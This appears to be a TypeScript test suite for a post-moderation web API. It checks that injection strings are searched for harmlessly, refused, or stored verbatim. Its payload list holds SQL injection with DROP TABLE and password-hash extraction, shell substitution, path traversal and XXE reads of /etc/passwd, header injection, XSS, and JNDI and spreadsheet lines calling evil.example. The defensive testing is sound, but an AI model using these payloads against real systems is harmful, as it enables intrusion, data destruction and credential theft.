import type { Response } from 'supertest';
import { useService } from '../../support/app';
import { givenPost } from '../../support/posts';
import { logIn } from '../auth/session-factory';

/** Texts that mean something to an interpreter behind some service: SQL, shells, templates, headers, logs, sheets, documents. */
const INJECTIONS = [
  "'",
  "' OR '1'='1",
  "'; DROP TABLE post; --",
  "' UNION SELECT password_hash FROM app_user --",
  '1); SELECT pg_sleep(30); --',
  '"; DELETE FROM queue_entry; --',
  '$1',
  '$$; DROP TABLE post; $$',
  "E'\\'; DROP TABLE post; --",
  '\\',
  '%',
  '_%_',
  "a' & 'b' | !c:* <-> (",
  '{"$gt": ""}',
  '__proto__.polluted',
  'constructor.prototype',
  '{{7*7}}${7*7}<%= 7*7 %>#{7*7}',
  '$(id)`id`; id | id && id',
  '../../../../etc/passwd',
  '*)(uid=*))(|(uid=*',
  'x\r\nSet-Cookie: sluice_session=stolen\r\n\r\n<html>',
  '\u001b[2J\u001b]0;owned\u0007\nERROR forged line',
  '<img src=x onerror=alert(1)>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '=HYPERLINK("https://evil.example";"x")',
  'javascript:alert(1)//',
  '${jndi:ldap://evil.example/x}',
];

/** Where a text is searched for, and where it is refused. */
const SEARCHES = ['q', 'author', 'error_reason'];
const REFUSING_FILTERS = ['cursor', 'language', 'sort', 'stream_id'];
const REFUSING_READS: readonly ((text: string) => string)[] = [
  (text) => `/posts/${text}`,
  (text) => `/curated/preview?limit=${text}`,
  (text) => `/stats/activity?time_zone=${text}`,
  (text) => `/reblog-controls/blocked-users?skip=${text}`,
];
const REFUSING_WRITES: readonly [path: string, status: number, bodyOf: (text: string) => object][] = [
  ['/hashtags', 422, (text) => ({ hashtag: text, instance: text })],
  ['/topical-tags', 422, (text) => ({ hashtag: text, topical_day_of_week: text })],
  ['/reblog-controls/blocked-hashtags', 422, (text) => ({ hashtag: text })],
  ['/reblog-controls/blocked-users', 400, (text) => ({ account_id: text })],
  ['/posts/1/review', 422, (text) => ({ approved: text })],
  ['/posts/batch-score', 422, (text) => ({ post_ids: [text] })],
];

function expectPlain(answer: Response, status: number): void {
  const { method, path } = answer.request as unknown as { method: string; path: string };
  expect([method, path, answer.status]).toEqual([method, path, status]);
  expect(answer.headers['content-type']).toBe('application/json; charset=utf-8');
  expect(Object.keys(answer.headers)).not.toContain('set-cookie');
  expect(answer.text).not.toMatch(/scrypt\$|root:x:|syntax error|at .*\.js:\d/);
}

describe('a text that means something to an interpreter', () => {
  const service = useService();
  let id: number;
  beforeAll(async () => {
    id = await givenPost(service);
  });

  it.each(INJECTIONS)('is searched for and not found: %j', async (text) => {
    for (const name of SEARCHES) {
      const answer = await service.api.get(`/posts?${name}=${encodeURIComponent(text)}`);
      expectPlain(answer, 200);
      expect(answer.body).toMatchObject({ items: [], total: 0 });
    }
  });

  it.each(INJECTIONS)('is refused where it can be no value: %j', async (text) => {
    const filters = new URLSearchParams(REFUSING_FILTERS.map((name) => [name, text]));
    const list = await service.api.get(`/posts?${filters.toString()}`);
    expectPlain(list, 422);
    const fields = (list.body.errors as { field: string }[]).map(({ field }) => field);
    expect(fields.toSorted()).toEqual(REFUSING_FILTERS);
    for (const path of REFUSING_READS) expectPlain(await service.api.get(path(encodeURIComponent(text))), 422);
    for (const [path, status, bodyOf] of REFUSING_WRITES)
      expectPlain(await service.api.post(path).send(bodyOf(text)), status);
  });

  it.each(INJECTIONS)('is stored as it is where any text may be: %j', async (text) => {
    const { body } = await service.api.patch(`/posts/${id}`).send({ reviewer_notes: text }).expect(200);
    expect(body.reviewer_notes).toBe(text);
    const blocked = await service.api
      .post('/reblog-controls/blocked-users')
      .send({ account_id: '@spam@spam.example', reason: text })
      .expect(201);
    expect(blocked.body.reason).toBe(text);
    await service.api.delete(`/reblog-controls/blocked-users/${blocked.body.id}`).expect(204);
  });

  it('changed nothing but the notes', async () => {
    const totals = ['/posts', '/hashtags', '/reblog-controls/blocked-users', '/reblog-controls/blocked-hashtags'].map(
      async (path) => [path, (await service.api.get(path).expect(200)).body.total],
    );
    expect(Object.fromEntries(await Promise.all(totals))).toEqual({
      '/posts': 1,
      '/hashtags': 1,
      '/reblog-controls/blocked-users': 0,
      '/reblog-controls/blocked-hashtags': 0,
    });
    const post = await service.api.get(`/posts/${id}`).expect(200);
    expect(post.body).toMatchObject({ approved: false, reviewed_at: null, queue_status: 'pending' });
    await logIn(service).expect(200);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });

  it('is no id of a request: the service makes one of its own', async () => {
    for (const text of INJECTIONS.filter((each) => /^[\x20-\x7e]+$/.test(each) && !/^[\w-]+$/.test(each))) {
      const answer = await service.api.get('/posts?limit=1').set('X-Request-Id', text).expect(200);
      expect(answer.headers['x-request-id']).toMatch(/^[0-9a-f-]{36}$/);
    }
  });
});
